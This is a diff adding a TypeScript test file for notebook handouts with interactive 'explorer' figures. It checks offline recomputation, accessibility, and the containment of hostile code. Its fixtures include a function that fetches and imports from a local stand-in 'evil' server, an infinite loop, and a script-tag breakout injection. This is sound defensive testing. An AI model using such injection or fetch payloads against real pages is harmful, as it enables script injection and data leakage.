@@ -1,0 +1,187 @@
+import { readFileSync, mkdtempSync, rmSync } from "node:fs";
+import { createServer } from "node:http";
+import { createRequire } from "node:module";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { openBrowser } from "../../src/handout/browser";
+import { readExplorer } from "../../src/handout/explorer-model";
+import { writeHandouts } from "../../src/handout/write-handouts";
+import { explore, slider, type Explorer } from "../../src/index";
+import { mimeBundle, plotlyMime } from "../../src/notebook/mime";
+import type { Notebook } from "../../src/notebook/nbformat";
+import { readNotebookFiles } from "../../src/kernel/notebook-file";
+
+const browser: Browser | undefined = await openBrowser({ log: console.log, loopback: true });
+if (!browser) console.log("skipped: no browser found, explorers were not opened in a handout");
+const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+
+const explorer = explore(
+  (klab, v) => klab.figures.densityPair(klab.normal(0, 1), klab.normal(v.mu, v.sigma)),
+  { mu: slider(-3, 3, 0, { label: "均值" }), sigma: slider(0.2, 3, 1, { label: "标准差" }) },
+);
+
+type Json = { layout: { meta: { explorer: { source: string } } } };
+
+/** A notebook whose cells show the explorer, each with a function of its own. */
+function notebookOf(value: Explorer, ...sources: (string | undefined)[]): Notebook {
+  const cells = sources.map((source, i) => {
+    const bundle = value[mimeBundle]();
+    const plotly = structuredClone(bundle[plotlyMime]) as Json;
+    if (source !== undefined) plotly.layout.meta.explorer.source = source;
+    return {
+      cell_type: "code",
+      id: `c${i}`,
+      metadata: {},
+      source: "explore(…)",
+      execution_count: i + 1,
+      outputs: [
+        {
+          output_type: "display_data",
+          metadata: {},
+          data: { [plotlyMime]: plotly, "text/plain": value.alt },
+        },
+      ],
+    };
+  });
+  return { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 } as unknown as Notebook;
+}
+
+const folder = mkdtempSync(join(tmpdir(), "klab-explorers-"));
+/** What an enemy's server would see. */
+const hits: string[] = [];
+const server = createServer((request, response) => {
+  hits.push(request.url ?? "");
+  response.setHeader("access-control-allow-origin", "*");
+  response.setHeader("content-type", "text/javascript");
+  response.end("1");
+});
+await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+
+beforeAll(async () => {
+  const gallery = readNotebookFiles([join("notebooks", "gallery.ipynb")])[0].notebook;
+  const hostile = [
+    `(klab, v) => { try { fetch("${evil}") } catch {} import("${evil}/m.js").catch(() => 0); return { data: [], layout: { title: { text: "试过了" } } } }`,
+    "(klab, v) => { for (;;); }",
+    `0);</script><script>document.title = "pwned"</script>(0`,
+  ];
+  await writeHandouts(
+    [
+      { name: "ours", notebook: notebookOf(explorer, undefined) },
+      { name: "hostile", notebook: notebookOf(explorer, ...hostile, undefined) },
+      { name: "gallery", notebook: gallery },
+    ],
+    { out: folder, audiences: ["student"], renderer: undefined, log: () => {} },
+  );
+}, 120_000);
+afterAll(async () => {
+  await browser?.close();
+  server.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+interface Opened {
+  readonly page: Page;
+  readonly messages: string[];
+  readonly requests: string[];
+}
+
+async function open(name: string): Promise<Opened> {
+  const context = await browser!.newContext();
+  const page = await context.newPage();
+  const messages: string[] = [];
+  const requests: string[] = [];
+  page.on("console", (message) => messages.push(message.text()));
+  page.on("pageerror", (error) => messages.push(String(error)));
+  context.on("request", (request) => requests.push(request.url()));
+  await page.goto(pathToFileURL(join(folder, `${name}.html`)).href);
+  return { page, messages, requests };
+}
+
+/** Its figures live, one after the other, as a reader comes by. */
+async function comeBy(page: Page): Promise<void> {
+  for (const figure of await page.locator("figure.plot").all()) {
+    await figure.scrollIntoViewIfNeeded();
+    const id = await figure.getAttribute("id");
+    await page.locator(`#${id}[data-state=live]`).waitFor({ timeout: 30_000 });
+  }
+}
+
+const readout = 'output[aria-live="polite"]';
+/** Waits by asking: the page's policy forbids what Playwright would evaluate in it. */
+const says = (page: Page, at: number, text: string): Promise<unknown> =>
+  expect
+    .poll(() => page.locator(readout).nth(at).textContent(), { timeout: 20_000 })
+    .toContain(text);
+
+describe.runIf(browser)("an explorer in a handout opened from disk", () => {
+  test("recomputes by keyboard without a network, within the page's policy", {
+    timeout: 60_000,
+  }, async () => {
+    const { page, messages, requests } = await open("ours");
+    await comeBy(page);
+    await page.getByLabel("均值").focus();
+    await page.keyboard.press("End");
+    await says(page, 0, "D(P‖Q) = 4.5 nat");
+    expect(messages).toEqual([]);
+    expect(requests.filter((url) => !/^(file|blob|data|about):/.test(url))).toEqual([]);
+    await page.context().close();
+  });
+
+  test("with a hostile function reaches nothing, runs no script, and leaves the page usable", async () => {
+    const { page } = await open("hostile");
+    await comeBy(page);
+    const sliders = page.getByLabel("均值");
+    for (let i = 0; i < 4; i++) await sliders.nth(i).fill("1");
+    await says(page, 3, "0.5 nat");
+    await says(page, 0, "试过了");
+    await says(page, 1, "已停止");
+    await says(page, 2, "不能运行");
+    expect(await page.title()).not.toBe("pwned");
+    expect(hits).toEqual([]);
+    // The server would have been reached: a page without our policy reaches it.
+    await page.goto(`${evil}/page`);
+    await page.evaluate(
+      `new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/f"); import("${evil}/m.js")'])))`,
+    );
+    await expect.poll(() => hits).toEqual(expect.arrayContaining(["/page", "/f", "/m.js"]));
+    await page.context().close();
+  }, 60_000);
+
+  test("and all figures of the gallery pass axe", async () => {
+    const { page, messages } = await open("gallery");
+    await comeBy(page);
+    await page.getByLabel("Q的均值μ").fill("2");
+    await says(page, 0, "nat");
+    await page.evaluate(axe);
+    const violations = await page.evaluate(
+      `axe.run({ iframes: false }).then((r) => r.violations.map((v) => v.id + ": " + v.nodes.map((n) => n.html).join(" ")))`,
+    );
+    expect(violations).toEqual([]);
+    expect(messages).toEqual([]);
+    await page.context().close();
+  }, 120_000);
+});
+
+describe("a stored explorer", () => {
+  const stored = { controls: explorer.controls, source: explorer.source, locale: "zh-CN" };
+
+  test("is read as explore wrote it", () => {
+    expect(readExplorer(JSON.parse(JSON.stringify(stored)))).toEqual(stored);
+  });
+
+  test.each([
+    ["no object", 7],
+    ["controls that are none", { ...stored, controls: {} }],
+    ["a control of another kind", { ...stored, controls: { a: { kind: "file", value: 1 } } }],
+    ["a bound that is text", { ...stored, controls: { a: { ...slider(0, 1), low: "0" } } }],
+    ["a function that is no text", { ...stored, source: {} }],
+    ["a function too long", { ...stored, source: "x".repeat(60_000) }],
+  ])("with %s is a figure without controls", (_, value) => {
+    expect(readExplorer(value)).toBeUndefined();
+  });
+});
